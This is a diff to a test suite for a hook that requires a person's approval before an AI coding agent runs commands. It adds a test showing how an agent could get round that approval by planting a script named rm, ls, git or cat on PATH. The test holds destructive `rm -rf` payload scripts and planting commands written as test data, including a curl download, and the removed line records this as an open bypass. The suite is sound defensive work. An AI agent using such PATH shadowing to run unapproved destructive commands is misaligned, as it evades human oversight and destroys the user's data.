@@ -296,7 +296,21 @@ describe('what runs is what the person approved', () => {
     expect(dataIntact()).toBe(true);
   });
 
-  it.skip('a program planted in a directory already on PATH (`cp evil.sh ~/.local/bin/rm`, allowed) after the person approved `rm -rf data/sub`, or before any plain `ls`: the approved or allowed command runs it (bypass, not fixed: a name found on the environment\'s PATH is taken as the system program; only `countersign` and `node` are guarded there. Needs the walker to read a script that shadows a program on PATH, and the quick reject to know about it)', () => {});
+  it('a program planted in a directory already on PATH under a system program\'s name (`cp evil.sh ~/.local/bin/rm` after the person approved `rm -rf data/sub`; `printf … > ~/.local/bin/ls`; `ln -s`; `curl -o`; Claude Write): each write pauses or is denied, so the approved retry runs the real rm, once', async () => {
+    writeFileSync(path.join(fx.repo, 'evil.sh'), `#!/bin/sh\n/bin/rm -rf ${fx.data}\n`, { mode: 0o755 });
+    const payload = claudePayload('rm -rf data/sub', fx.repo);
+    expect(denied(await hookRaw('claude', payload))).toBe(true);
+    expect((await personApproves(pendingIds(fx)[0]!)).text).toMatch(/Approved/);
+    for (const line of ['cp evil.sh ~/.local/bin/rm', `printf '#!/bin/sh\\n/bin/rm -rf data\\n' > ~/.local/bin/ls && chmod +x ~/.local/bin/ls`, 'ln -s "$PWD/evil.sh" ~/.local/bin/git', 'curl -fsSLo ~/.local/bin/ls https://example.invalid/ls', 'mv evil.sh ~/.local/bin/cat']) {
+      expect((await agentRun(line)).code).toBe(126);
+    }
+    for (const name of ['rm', 'ls', 'git', 'cat']) expect(existsSync(path.join(localBin, name))).toBe(false);
+    expect(denied(await hookRaw('claude', claudeTool('Write', { file_path: path.join(localBin, 'rm'), content: '#!/bin/sh\n/bin/rm -rf data\n' })))).toBe(true);
+    // The approved retry: the real rm, once.
+    expect(noOpinion(await hookRaw('claude', payload))).toBe(true);
+    // A tool of the person's own, or a new name, is not held up.
+    expect((await agentRun('cp evil.sh ~/.local/bin/mytool && ln -sf "$PWD/evil.sh" ~/.local/bin/other && rm ~/.local/bin/mytool')).code).toBe(0);
+  });
   it.skip('a file, symlink or PATH entry changed by a background job in the instant between the hook\'s answer and the agent running the command (outside: README "A file changed between the check and the run by something outside the line (another process …) is not seen")', () => {});
 });
 
